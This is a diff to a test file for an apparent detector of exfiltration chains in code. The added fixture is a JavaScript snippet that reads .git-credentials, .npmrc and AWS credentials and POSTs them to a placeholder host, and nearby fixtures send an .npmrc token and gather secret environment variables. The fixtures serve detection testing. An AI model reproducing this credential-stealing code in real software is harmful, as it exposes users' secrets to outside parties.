@@ -194,6 +194,12 @@ describe('exfiltration and attack chains', () => {
     const npmrc = "const https = require('https'); const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nconst r = https.request({ host: 'registry.example', headers: { authorization: t } }); r.end();";
     expect(js(npmrc).chains).toEqual([]);
     expect(js("const https = require('https'); const h = require('os').hostname();\nhttps.request({ host: 'x.example', path: '/' + h }).end();").chains).toEqual([]);
+    // three tools' credential files read together and sent from that file is a theft; two (a deploy tool's cloud and
+    // cluster configs beside its API client) are not
+    const read = (p: string): string => `read(path.join(home, ${p}))`;
+    const many = `const fs = require('fs'); const path = require('path'); const home = require('os').homedir();\nconst read = (p) => { try { return fs.readFileSync(p, 'utf8'); } catch { return null; } };\nconst payload = {\n  a: ${read("'.git-credentials'")},\n  b: ${read("'.npmrc'")},\n  c: ${read("'.aws', 'credentials'")},\n};\nfetch('https://diag.example.dev/v1', { method: 'POST', body: JSON.stringify(payload) });\n`;
+    expect(js(many).chains?.[0]?.title).toMatch(/reads credential files -> sends data over the network/);
+    expect(js(many.replace(`\n  c: ${read("'.aws', 'credentials'")},`, '')).chains).toEqual([]);
   });
   it('secret environment variables picked out in one module and sent by another module of the same small program chain; one credential file beside a client does not', () => {
     const collector = 'import os\n\ndef secrets():\n    return {k: v for k, v in os.environ.items() if any(s in k.upper() for s in ("TOKEN", "SECRET", "KEY"))}\n';
